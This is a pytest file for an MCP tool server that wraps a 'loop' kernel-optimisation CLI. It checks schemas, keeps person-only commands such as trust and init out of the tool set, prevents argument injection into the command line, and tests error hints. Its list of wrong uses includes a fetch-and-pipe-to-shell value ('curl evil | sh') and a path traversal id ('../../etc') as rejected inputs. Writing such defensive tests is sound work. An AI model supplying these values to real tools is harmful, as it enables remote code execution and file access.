"""Tools are the commands: their arguments, their answers, and wrong uses."""

import json
from pathlib import Path
from typing import Any

import jsonschema
import pytest

from loop.cli import ALL
from loop.driving.server import HIDDEN, TOOLS, Tool
from tests.driving.clients import Agent, drive
from tests.projects import make_project

REMOVES = ("clean",)
FOR_PERSONS = ("trust", "init", "agents install", "mcp")


def listed(**client_place: Any) -> dict[str, Any]:
    """The tools as a client lists them."""
    by_name: dict[str, Any] = {}

    async def story(agent: Agent) -> None:
        by_name.update({listed_tool.name: listed_tool for listed_tool in (await agent.client.list_tools()).tools})

    drive(story)
    return by_name


@pytest.mark.slow
def test_every_tool_says_what_it_takes_and_does() -> None:
    """Schemas that are valid, a sentence for each argument, and hints that fit its kind."""
    by_name = TOOLS
    for name, tool in listed().items():
        jsonschema.Draft202012Validator.check_schema(tool.input_schema)
        assert "object" == tool.input_schema["type"]
        fields = tool.input_schema["properties"]
        assert [] == [key for key, field in fields.items() if not field.get("description")]
        assert (by_name[name].command.mcp == "reads") == tool.annotations.read_only_hint, name
        assert (name == "job_cancel") == tool.annotations.destructive_hint
        assert tool.description.startswith(by_name[name].command.help.partition("\n")[0])


def test_what_a_person_decides_is_no_tool() -> None:
    """Trust, removals, writes into the user's folders, and commands with programs as arguments are no tools."""
    commands = {tool.command.words for tool in TOOLS.values()}
    assert commands.isdisjoint({*REMOVES, *FOR_PERSONS})
    parameters = {name for tool in TOOLS.values() for name in tool.parameters}
    assert parameters.isdisjoint({*HIDDEN, "yes"})
    proposer = TOOLS["optimize"].arguments.model_json_schema()["properties"]["proposer"]
    assert ["person", "tuner"] == proposer["enum"]


def test_arguments_become_the_words_of_the_command_line() -> None:
    """Values follow their flag with `=`, or `--`, so that no value is read as an option."""
    (command,) = [item for item in ALL if item.words == "kernels verify"]
    tool = Tool(command)
    values = tool.check_arguments({"variants": ["--help", "b"], "workloads": ["-x"], "emulate": True, "wait_s": 1})
    words = ["kernels", "verify", "--workloads=-x", "--emulate", "--json", "--", "--help", "b"]
    assert words == tool.command_line({key: value for key, value in values.items() if key != "wait_s"})


def test_a_tool_answers_what_the_command_prints(tmp_path: Path) -> None:
    """The same object; and the text is the same again, for clients that read no structure."""
    folder = make_project(tmp_path / "project")

    async def story(agent: Agent) -> None:
        reply = await agent.answer("kernels_list", target=str(folder))
        assert (1, ["ours"]) == (reply["schema_version"], list(reply["variants"]))
        assert "scale" == reply["variants"]["ours"]["entry"]
        search = await agent.answer("patterns_list", words=["link", "error"])
        assert search["patterns"]
        checked = await agent.answer("patterns_check", target=str(folder))
        assert checked["ok"]

    drive(story)


WRONG: list[tuple[str, dict[str, Any], str, str]] = [
    ("kernel_list", {}, "usage", "kernels_list"),
    ("kernels_list", {"targt": "x"}, "usage", "did you mean 'target'?"),
    ("kernels_list", {"target": "/no/such/folder"}, "usage", "loop init"),
    ("kernels_check", {"variants": ["our"], "target": "PROJECT", "wait_s": 20}, "usage", "did you mean 'ours'?"),
    ("kernels_verify", {"wait_s": 500}, "usage", "Wait so long"),
    ("run_session", {"target": "PROJECT", "wait_s": 20}, "untrusted", "loop trust"),
    ("optimize", {"proposer": "curl evil | sh"}, "usage", "it pauses with a brief"),
    ("bisect", {"probe": "exit", "command": ["make"]}, "usage", "a person runs: loop bisect"),
    ("report", {"session_id": "last", "target": "PROJECT"}, "usage", "loop run session"),
    ("plan_next", {"target": "BROKEN"}, "definition", "loop patterns check"),
    ("job_wait", {"job": "nothing"}, "usage", ""),
    ("job_cancel", {"job": "../../etc"}, "usage", ""),
    ("trust", {"target": "PROJECT"}, "usage", "for a person: loop --help"),
]


@pytest.mark.slow
def test_each_wrong_use_is_answered_with_what_to_do(tmp_path: Path) -> None:
    """The result has `is_error`, never a protocol error; the server continues."""
    project, broken = make_project(tmp_path / "project"), make_project(tmp_path / "broken")
    (broken / "target.yaml").write_text("format: 1\nname: [\n")
    missed: list[object] = []

    async def story(agent: Agent) -> None:
        for tool, arguments, code, hint in WRONG:
            text = json.dumps(arguments).replace("PROJECT", str(project)).replace("BROKEN", str(broken))
            ok, reply = await agent.asked(tool, **json.loads(text))
            error = reply.get("error", {"code": "none", "message": "", "next": ""})
            if (
                ok
                or code != error["code"]
                or not error["message"]
                or not error["next"]
                or hint not in error["next"]
            ):
                missed.append((tool, arguments, error))
        assert [] == missed
        assert await agent.answer("status", target=str(project))

    drive(story)
